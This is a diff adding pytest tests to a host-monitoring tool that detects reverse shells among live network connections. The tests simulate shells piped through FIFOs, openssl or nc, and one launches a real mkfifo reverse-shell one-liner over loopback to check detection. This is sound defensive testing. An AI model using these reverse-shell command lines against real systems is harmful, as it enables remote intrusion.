@@ -9,6 +9,7 @@ import subprocess
 import sys
 from collections.abc import Callable
 from contextlib import closing
+from pathlib import Path
 
 import pytest
 
@@ -142,6 +143,78 @@ def test_a_tool_that_pipes_its_connection_into_a_shell(live: FakeLive) -> None:
     shell = live.add_process(b"/usr/bin/sh", age=30, session=77)
     live.come_from(shell, streams=(b"pipe:[5]", b"pipe:[6]", b"pipe:[6]"))
     assert found(live).suspicious == ["outbound tcp /usr/bin/nc (root)"]
+
+
+def piped(live: FakeLive, argv: tuple[bytes, ...], *streams: bytes, **fields: object) -> int:
+    shell = live.add_process(b"/usr/bin/dash", age=30, argv=argv, **fields)  # type: ignore[arg-type]
+    live.come_from(shell, streams=(*streams, streams[1]))  # type: ignore[arg-type]
+    return shell
+
+
+def test_a_shell_behind_a_fifo_and_a_tool_that_is_none(live: FakeLive) -> None:
+    """`cat f | sh -i | openssl s_client … >f`: two pipes and a file of the kind."""
+    live.come_from(live.add_process(b"/usr/bin/cat", age=30), streams=(b"/tmp/f", b"pipe:[5]", NULL))
+    piped(live, (b"sh", b"-i"), b"pipe:[5]", b"pipe:[6]")
+    client = live.add_process(b"/usr/bin/openssl", age=30)
+    live.come_from(client, streams=(b"pipe:[6]", b"/tmp/f", NULL))
+    live.connect("tcp", 41000, b"127.0.0.1", 443, client)
+    item = found(live).named("outbound tcp /usr/bin/openssl (root)")
+    assert item.verdict is Verdict.SUSPICIOUS
+    assert "an interactive shell without a terminal" in item.says
+
+
+def test_a_shell_behind_a_pair_of_sockets_of_its_parent(live: FakeLive) -> None:
+    agent = live.add_process(b"/usr/bin/python3.11", age=30, argv=(b"python3", b"/opt/agent.py"))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, agent)
+    piped(live, (b"sh", b"-i"), b"socket:[5]", b"socket:[5]", parent=agent)
+    (item,) = found(live).of(Verdict.NOTABLE)
+    assert item.name.startswith("outbound tcp /usr/bin/python3.11")
+
+
+@pytest.mark.parametrize(
+    ("argv", "stdin"),
+    [((b"sh",), b"pipe:[5]"), ((b"bash", b"-i", b"-l", b"-c", b"env"), b"pipe:[5]"),
+     ((b"sh", b"-i", b"script"), b"pipe:[5]"), ((b"bash", b"--init"), b"pipe:[5]"),
+     ((b"sh", b"-i"), b"/dev/pts/3"), ((b"sh", b"-i"), NULL)],
+)  # fmt: skip
+def test_ordinary_pipes_into_shells(live: FakeLive, argv: tuple[bytes, ...], stdin: bytes) -> None:
+    """`curl … | sh` is for histories and settings to tell; here a program only feeds its shell."""
+    client = live.add_process(b"/usr/bin/curl", age=30)
+    live.come_from(client, streams=(NULL, b"pipe:[5]", NULL))
+    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
+    piped(live, argv, stdin, b"/dev/pts/3")
+    assert {item.verdict for item in found(live).items} == {Verdict.FINE}
+
+
+def test_a_shell_that_came_by_ssh_without_a_terminal(live: FakeLive) -> None:
+    sshd = live.add_process(b"/usr/sbin/sshd", age=30)
+    live.connect("tcp6", 22, b"203.0.113.9", 50999, sshd)
+    piped(live, (b"sh", b"-i"), b"pipe:[5]", b"pipe:[6]", parent=sshd)
+    assert {item.verdict for item in found(live).items} == {Verdict.FINE}
+
+
+def test_a_real_shell_behind_a_fifo(tmp_path: Path, running: Callable[..., subprocess.Popen[bytes]]) -> None:
+    """Over the loopback of this machine, with a few lines of Python for nc."""
+    talk = (
+        "import os, socket, sys, threading\n"
+        "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
+        "work = lambda: [s.send(one) for one in iter(lambda: os.read(0, 99), b'')]\n"
+        "threading.Thread(target=work, daemon=True).start()\n"
+        "for one in iter(lambda: s.recv(99), b''): os.write(1, one)\n"
+    )
+    (tmp_path / "talk.py").write_text(talk)
+    with socket.socket() as server, closing(ProcHost()) as real:
+        server.bind(("127.0.0.1", 0))
+        server.listen()
+        server.settimeout(20)
+        port = server.getsockname()[1]
+        line = f"echo x; mkfifo f; cat f | sh -i 2>&1 | {sys.executable} talk.py {port} >f"
+        running(["/bin/sh", "-c", f"cd '{tmp_path}'; {line}"])
+        peer, _ = server.accept()
+        with peer:
+            peer.recv(1)  # the prompt
+            told = looked(connections.look, scene(live=real))
+    assert any("an interactive shell without a terminal" in one.says for one in told.of(Verdict.SUSPICIOUS))
 
 
 def test_many_connections_are_one_item_and_owners_are_sought_for_some(
